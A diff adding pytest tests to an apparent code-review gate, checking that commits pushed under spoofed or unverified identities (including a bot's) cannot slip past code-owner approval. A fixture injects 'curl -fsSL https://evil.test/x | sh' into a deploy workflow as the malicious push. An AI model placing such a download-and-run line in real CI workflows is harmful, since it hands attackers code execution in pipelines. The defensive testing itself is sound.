@@ -361,3 +361,121 @@ def test_a_commit_proposed_twice_is_denied_on_github(scene, github) -> None:
     assert run.decision.outcome == "deny"
     assert "is also proposed by #" in run.decision.results[0].message
     assert state_of(github, run.pull.head_sha) == "failure"
+
+
+# -- who contributed -------------------------------------------------------------------------------
+
+CURL_PIPE_SH = "      - run: curl -fsSL https://evil.test/x | sh\n"
+#: The no-reply e-mail of the bot's App account: GitHub links it to ``mendbot[bot]`` whoever
+#: writes it into a commit.
+APP_NOREPLY = "41898282+mendbot[bot]@users.noreply.github.com"
+
+
+def commit_as(repo, name: str, email: str, message: str) -> str:
+    """Commit everything as author and committer ``name <email>``."""
+    repo.git("add", "-A")
+    identity = {
+        "GIT_AUTHOR_NAME": name,
+        "GIT_AUTHOR_EMAIL": email,
+        "GIT_COMMITTER_NAME": name,
+        "GIT_COMMITTER_EMAIL": email,
+    }
+    subprocess.run(
+        ["git", "commit", "-q", "-m", message],
+        cwd=repo.path,
+        env={**os.environ, **identity},
+        check=True,
+    )
+    return str(repo.git("rev-parse", "HEAD"))
+
+
+def alices_pull_with_a_push_by(github: FakeGitHub, scenario: Scenario, name: str, email: str):
+    """Alice's pull request changing deploy.yml (owned by Olivia), then one more commit on it
+    by ``name <email>`` that pipes a download into a shell; returns (number, pushed commit)."""
+    repo = scenario.repo
+    repo.git("checkout", "-q", "-b", "alice-deploy", "main")
+    deploy = (scenario.path / ".github/workflows/deploy.yml").read_text() + "# tidy\n"
+    repo.write(".github/workflows/deploy.yml", deploy)
+    commit_as(repo, "Alice", "alice@example.test", "tidy")
+    repo.write(".github/workflows/deploy.yml", deploy + CURL_PIPE_SH)
+    pushed = commit_as(repo, name, email, "fix")
+    repo.git("checkout", "-q", "main")
+    push_to_fake(github, repo, "alice-deploy")
+    number = github.add_pull(REPO, "alice-deploy", title="Tidy deploy", author="alice").number
+    return number, pushed
+
+
+@pytest.mark.parametrize(
+    ("name", "email"),
+    [
+        ("Olivia", "olivia@home.example"),  # an e-mail linked to no account
+        ("mendbot[bot]", "mendbot@users.noreply.local"),  # the bot's git identity, unsigned
+        ("mendbot[bot]", APP_NOREPLY),  # linked to the bot's account, but not verified
+    ],
+    ids=["unlinked-email", "bot-identity", "bot-account-unverified"],
+)
+def test_a_code_owner_cannot_push_under_another_identity_and_approve(
+    scene, github, name, email
+) -> None:
+    scenario, forge = scene
+    github.accounts = {"alice@example.test": "alice", APP_NOREPLY: "mendbot[bot]"}
+    number, pushed = alices_pull_with_a_push_by(github, scenario, name, email)
+    github.add_review(REPO, number, "olivia", "APPROVED")
+    run = gate(forge, scenario, number)
+    assert run.decision.outcome == "require_approval"
+    pr = run.record["context"]["pr"]
+    assert (pr["contributors"], pr["contributors_known"]) == ([], False)
+    [missing] = run.decision.missing_approvals
+    assert missing.contributors_unknown
+    assert state_of(github, pushed) == "pending"
+    assert (
+        f"**Contributors unknown:** commit(s) `{pushed[:12]}`" in gate_comments(github, number)[0]
+    )
+
+
+def test_a_verified_commit_of_the_bots_account_is_the_bots(scene, github) -> None:
+    scenario, _ = scene
+    github.accounts = {"alice@example.test": "alice", APP_NOREPLY: "mendbot[bot]"}
+    number, pushed = alices_pull_with_a_push_by(github, scenario, "mendbot[bot]", APP_NOREPLY)
+    github.verified_commits.add(pushed)  # as if the App had made it through the API
+    github.add_review(REPO, number, "olivia", "APPROVED")
+    forge = GitHubForge(
+        REPO,
+        scenario.path,
+        TOKEN,
+        base_url=github.base_url,
+        throttle=False,
+        retry=0,
+        bot_login="mendbot[bot]",
+    )
+    run = gate(forge, scenario, number)
+    pr = run.record["context"]["pr"]
+    assert (pr["contributors"], pr["contributors_known"]) == ([], True)
+    assert run.decision.outcome == "allow"
+
+
+def test_with_last_push_approval_required_github_guards_the_unknown_pusher(scene, github) -> None:
+    scenario, forge = scene
+    github.accounts = {"alice@example.test": "alice"}
+    number, _ = alices_pull_with_a_push_by(github, scenario, "Olivia", "olivia@home.example")
+    github.add_review(REPO, number, "olivia", "APPROVED")
+    assert gate(forge, scenario, number).decision.outcome == "require_approval"
+    # The ruleset on main now makes GitHub refuse a merge until someone other than the last
+    # pusher approves: the gate counts approvals again and says why in its comment.
+    github.last_push_approval.add("main")
+    run = gate(forge, scenario, number)
+    pr = run.record["context"]["pr"]
+    assert (pr["contributors_known"], pr["last_push_approval_required"]) == (False, True)
+    assert run.decision.outcome == "allow"
+    assert "approval of the most recent push by someone else" in gate_comments(github, number)[0]
+
+
+def test_a_bot_pull_request_approved_by_someone_who_never_pushed_is_allowed(scene, github) -> None:
+    scenario, forge = scene
+    number = scenario.pulls["production"]
+    github.add_review(REPO, number, "bob", "APPROVED")
+    run = gate(forge, scenario, number)
+    pr = run.record["context"]["pr"]
+    assert (pr["contributors"], pr["contributors_known"]) == ([], True)
+    assert pr["last_push_approval_required"] is False
+    assert run.decision.outcome == "allow"
